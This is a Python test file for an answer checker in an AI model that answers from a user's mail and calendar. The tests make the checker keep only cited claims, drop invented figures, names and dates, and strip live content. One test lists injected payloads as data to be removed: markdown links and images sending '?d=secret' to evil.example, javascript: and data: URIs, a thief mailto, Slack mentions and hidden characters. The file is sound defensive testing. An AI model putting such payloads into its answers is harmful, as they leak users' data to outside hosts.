"""What a model may say: what its sources say, with their numbers, and nothing that is live."""

from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest

from assistant.asking.checking import Checked, check_answer
from assistant.asking.evidence.sources import of_fact, written
from assistant.asking.values import Asker, Source
from storage.documents import Service
from tests.assistant.asking.rig import NOW, ZONE, said

ASKER = Asker("u1", ZONE, NOW, ())
QUESTION = "How much is the deposit, and when is it due?"


def source(number: int, text: str, title: str = "Deposit") -> Source:
    who = "Sarah Lindqvist (sarah@brightwater.example)"
    return Source(number, "gmail", title, who, NOW, "https://mail.google.com/x", text, text, remote_id=str(number))


SOURCES = (
    source(1, "The deposit is 23,000 EUR. It is due on 4 December 2026 at 14:30."),
    source(2, "Lunch on Friday?"),
    source(3, "We had 4,800 transactions on one day and 2,640 on the other."),
)


def checked(text: str, known: bool = True, **more: object) -> Checked:
    return check_answer(said(text, known, **more), QUESTION, SOURCES, ASKER)  # type: ignore[arg-type]


def test_a_founded_answer_passes_and_its_sources_are_numbered_anew() -> None:
    found = checked("They had 4,800 transactions [3]. The deposit is 23,000 EUR, due on 4 December at 14:30 [1].")
    assert found.text == "They had 4,800 transactions [1]. The deposit is 23,000 EUR, due on 4 December at 14:30 [2]."
    assert [(one.number, one.remote_id) for one in found.sources] == [(1, "3"), (2, "1")]
    assert not found.left_out


def test_citations_of_sources_that_were_not_given_are_dropped() -> None:
    found = checked("The deposit is 23,000 EUR [1][7], see [9].")
    assert "[7]" not in found.text and "[9]" not in found.text
    assert [one.remote_id for one in found.sources] == ["1"]


@pytest.mark.parametrize("text", ["The deposit is 23,000 EUR [1, 3].", "The deposit is 23,000 EUR 【1】【3】."])
def test_citations_in_other_forms_are_read(text: str) -> None:
    assert [one.remote_id for one in checked(text).sources] == ["1", "3"]


def test_what_stands_word_for_word_in_a_source_is_supported_but_for_a_tomorrow_without_its_day() -> None:
    dated = "She leaves us at the close of business tomorrow, Friday November 13th."
    told = f"{dated} She is away from tomorrow on, to be sure. Flowers come tomorrow, on 12 November."
    before = replace(source(4, told), at=NOW - timedelta(days=13))
    found = check_answer(said(f"{dated} [4] She is away from tomorrow on, to be sure. [4]"), "", [before], ASKER)
    assert found.text == f"{dated} [1]" and found.left_out
    other = check_answer(said("She leaves us tomorrow, Friday November 20th. [4]"), "", [before], ASKER)
    assert not other.text


def test_an_address_that_may_not_be_told_is_told_by_its_name() -> None:
    names = {"tom@far.example": "Tom Hall"}
    text = "Due on 4 December, said tom@far.example, Ann Lee (ann@far.example) and x@far.example [1]."
    found = check_answer(said(text), QUESTION, (*SOURCES, source(4, "Ann Lee, Tom Hall")), ASKER, names)
    assert found.text == "Due on 4 December, said Tom Hall, Ann Lee and (address left out) [1]."


def test_both_days_of_an_event_of_several_are_known_west_of_utc_too() -> None:
    day = datetime(2026, 12, 22, tzinfo=UTC)
    fair = replace(source(1, "x", "Fair"), service="calendar", at=day, ends_at=day + timedelta(days=3), all_day=True)
    asker = replace(ASKER, zone="America/New_York")
    told = f"Fair, {written(fair, asker.zone)} [1]."
    assert "22 December 2026 to Thursday 24 December 2026, all day" in told
    assert check_answer(said(told), QUESTION, (fair,), asker).text == told
    off = said("Fair, Friday 25 December 2026 [1].")
    assert check_answer(off, QUESTION, (fair,), asker).text == ""


def test_an_answer_without_a_citation_is_no_answer() -> None:
    assert checked("The deposit is 23,000 EUR.") == Checked("", False, ())


@pytest.mark.parametrize(
    "invented",
    [
        "The deposit is 25,000 EUR [1].",
        "It is due on 9 December [1].",
        "It is due at 16:45 [1].",
        "Margarethe Vestergaard wants it [1].",
        "Wire it to DE99 5000 0000 6666 7777 88 [1].",
    ],
    ids=["amount", "day", "time", "name", "account"],
)
def test_what_stands_in_no_source_is_left_out(invented: str) -> None:
    found = checked(f"{invented} The deposit is 23,000 EUR [1].")
    assert found.text == "The deposit is 23,000 EUR [1]." and found.left_out
    assert checked(invented).text == ""


def held(answer: str, *texts: str) -> bool:
    """Whether all of an answer is left, where these are its sources."""
    found = check_answer(said(answer), "?", [source(n, text, "Mail") for n, text in enumerate(texts, 1)], ASKER)
    return bool(found.text) and not found.left_out


OFFERS = (
    "Acme offers 23,000 EUR by 4 December 2026 at 14:30 for forty seats.",
    "Bolt offers 19,500 EUR by 9 December 2026 at 16:45 for 55 seats.",
)


@pytest.mark.parametrize(
    ("answer", "holds"),
    [
        ("Bolt offers 19,500 EUR [2].", True),
        ("Bolt offers 23,000 EUR [2].", False),
        ("Bolt offers it by 4 December [2].", False),
        ("Bolt offers it until 14:30 [2].", False),
        ("Bolt offers 40 seats [2].", False),
        ("Acme offers 40 seats, Bolt fifty-five [1][2].", True),
        ("The difference is 3,500 EUR: 23,000 [1] against 19,500 [2].", True),
        ("There are two offers, of 23,000 and 19,500 EUR. Acme is the dearer one [1].", True),
        ("ボルトは19,500ユーロです[2]。アクメは23,000ユーロです[1]。", True),
        ("ボルトは23,000ユーロです[2]。アクメは23,000ユーロです[1]。", False),
    ],
)
def test_what_a_sentence_says_rests_on_the_sources_that_it_cites(answer: str, holds: bool) -> None:
    assert held(answer, *OFFERS) is holds


def test_what_code_worked_out_holds_for_every_sentence() -> None:
    fact = of_fact(Service.CALENDAR, "Worked out by code", "3 events together: 4 hours 15 minutes (4:15).")
    known = (replace(fact, number=1), source(2, "Review with Acme", "Review"))
    assert check_answer(said("With the review [2] it is 4 hours 15 minutes in 3 events [2]."), "?", known, ASKER).text


def test_what_a_cited_fact_was_worked_out_from_stands_among_the_sources() -> None:
    told = "Between “Review” (until 11:00) and “Lunch” (from 12:30) there is 1 hour 30 minutes (1:30)."
    fact = replace(of_fact(Service.CALENDAR, "Worked out by code", told), number=1)
    known = (fact, source(2, "", "Retro"), source(3, "", "Review"), source(4, "", "Lunch"), source(5, "", "Re"))
    found = check_answer(said("You have 1 hour 30 minutes [1]."), "?", known, ASKER)
    assert [(one.number, one.title) for one in found.sources] == [
        (1, "Worked out by code"),
        (2, "Review"),
        (3, "Lunch"),
    ]
    other = check_answer(said("There is a review [3]."), "?", known, ASKER)
    assert [one.title for one in other.sources] == ["Review"]


@pytest.mark.parametrize(
    ("answer", "holds"),
    [
        ("Twelve people came [1].", True),
        ("12 people came [1].", True),
        ("Thirteen people came [1].", False),
        ("About 1.23 million people read it [1].", True),
        ("About 1.32 million people read it [1].", False),
        ("It lasted eighteen months, for nineteen percent [1].", True),
        ("It lasted 18 months, for 20 percent [1].", False),
        ("25 people came [1].", False),  # it was written on the 25th
        ("50% agreed, and dinner is at 19:30 [1].", True),
    ],
)
def test_numbers_in_words_and_in_digits_are_the_same(answer: str, holds: bool) -> None:
    told = "Twelve people came. 1,234,567 read it. It lasted 18 months, at 19%. Half agreed. Dinner: half past seven."
    assert held(answer, told) is holds


@pytest.mark.parametrize(
    ("answer", "holds"),
    [
        ("The review is on Tuesday, 12 May 2026 [1].", True),
        ("The review is on Monday, 12 May 2026 [1].", False),
        ("The review is on Mon 12 May [1].", False),
        ("The review is on 12 May 2026 (Monday) [1].", False),
        ("Die Prüfung ist am Montag, den 12. Mai 2026 [1].", False),
        ("Die Prüfung ist am Dienstag, den 12. Mai 2026 [1].", True),
        ("La réunion est lundi 12 mai [1].", False),
        ("La reunión es el lunes 12 de mayo [1].", False),
        ("La riunione è lunedì 12 maggio [1].", False),
        ("A reunião é segunda-feira, 12 de maio [1].", False),
        ("De vergadering is op maandag 12 mei [1].", False),
        ("会議は5月12日(月)です[1]。", False),
        ("会議は5月12日(火)です[1]。", True),
        ("Lunch is on Monday [1].", True),
        ("It is due tomorrow, Thursday, and lunch is on Monday [1].", True),
        ("It is due tomorrow, Monday [1].", False),
    ],
)
def test_a_weekday_goes_with_the_day_beside_it(answer: str, holds: bool) -> None:
    assert held(answer, "The review is on 12 May 2026. Lunch is on Monday. It is due on 26 November 2026.") is holds


def test_a_weekday_that_has_its_day_beside_it_is_no_other_day() -> None:
    assert not held("The call is on 4 December 2026 [1].", "The call is on Friday, 27 November 2026.")
    assert held("The call is on 27 November [1].", "The call is on Friday.")


def test_nouns_with_capitals_are_no_names() -> None:
    assert held("Die Anzahlung beträgt 23.000 EUR, zuzüglich 19 Prozent Mehrwertsteuer [1].", "23,000 EUR plus 19% VAT")
    assert not held("Margarethe Vestergaard verlangt 23.000 EUR [1].", "23,000 EUR plus 19% VAT")


def test_a_code_of_letters_and_digits_is_known_in_full() -> None:
    assert held("The file is rent_roll_1215 [1].", "See rent_roll_1215.xls there.")
    assert not held("The file is rent_roll_1216 [1].", "See rent_roll_1215.xls there.")


def test_a_weekday_that_a_source_gives_to_a_day_is_what_it_says() -> None:
    assert held("The lunch is on Monday 12 May [1].", "Let us have lunch on Monday, 12 May.")
    assert held("They met on Tuesday, June 5 [1].", "Minutes of 2001-06-05", "They met on June 5.")


def test_the_figures_that_make_up_a_sum_or_a_product_may_be_several() -> None:
    assert held("The total is 60 EUR: 10, 20 and 30 EUR [1].", "10 EUR, 20 EUR, 30 EUR")
    assert not held("The total is 70 EUR: 10, 20 and 30 EUR [1].", "10 EUR, 20 EUR, 30 EUR")
    assert held("3 nights at 120 EUR are 360 EUR [1].", "3 nights at 120 EUR")


def test_a_difference_of_figures_that_are_given_may_be_worked_out() -> None:
    assert checked("That is 2,160 more, 4,800 against 2,640 [3].").text
    assert not checked("That is 2,160 more [3].").text


@pytest.mark.parametrize(
    "hostile",
    [
        "[Open it](https://evil.example/steal?d=secret)",
        "![seen](https://evil.example/x.png?d=secret)",
        "<https://evil.example/steal|https://mail.google.com>",
        "https://evil.example/steal",
        "www.evil.example/steal",
        '<a href="https://evil.example">Approve</a><img src="https://evil.example/x.gif">',
        "thief@evil.example",
        "<mailto:thief@evil.example|Bob>",
        "<!channel> <@U0BOB> <#C0GENERAL|general>",
        "slack://open?x=evil.example",
        "evil.example/steal?d=secret",
        "javascript:alert(1) data:text/html;base64,AAAA",
    ],
)
def test_nothing_in_an_answer_is_live(hostile: str) -> None:
    text = checked(f"{hostile} The deposit is 23,000 EUR [1].").text
    assert "evil" not in text and "steal" not in text and "<" not in text and "://" not in text and "](" not in text
    assert "@" not in text and "23,000 EUR [1]" in text


LINKED = (source(1, "Reset it at https://portal.example/reset?token=abc, or write to help@portal.example."),)


@pytest.mark.parametrize(
    ("question", "text"),
    [
        ("What is the address of the portal?", "It is portal.example, or help@portal.example [1]."),
        ("How do I reset it?", "It is (link left out), or (address left out) [1]."),
    ],
)
def test_of_a_link_in_a_source_the_host_is_left_and_only_if_it_was_asked_for(question: str, text: str) -> None:
    given = said("It is https://portal.example/reset?token=abc, or help@portal.example [1].")
    assert check_answer(given, question, LINKED, ASKER).text == text


def test_who_wrote_may_be_named_with_their_address() -> None:
    assert "sarah@brightwater.example" in checked("It is 23,000 EUR, says sarah@brightwater.example [1].").text


def test_hidden_characters_and_length_are_bounded() -> None:
    text = checked("The deposit\u202e is\u200b 23,000\U000e0041 EUR [1].\x07" + "\n" * 50 + "x" * 9000).text
    assert text.startswith("The deposit is 23,000 EUR [1].") and len(text) <= 2500
    assert not set("\u202e\u200b\U000e0041\x07") & set(text)


def test_what_a_model_does_not_know_stays_unknown() -> None:
    found = checked("The mails name a deposit of 23,000 EUR, but not who pays it [1].", known=False)
    assert not found.known and found.sources
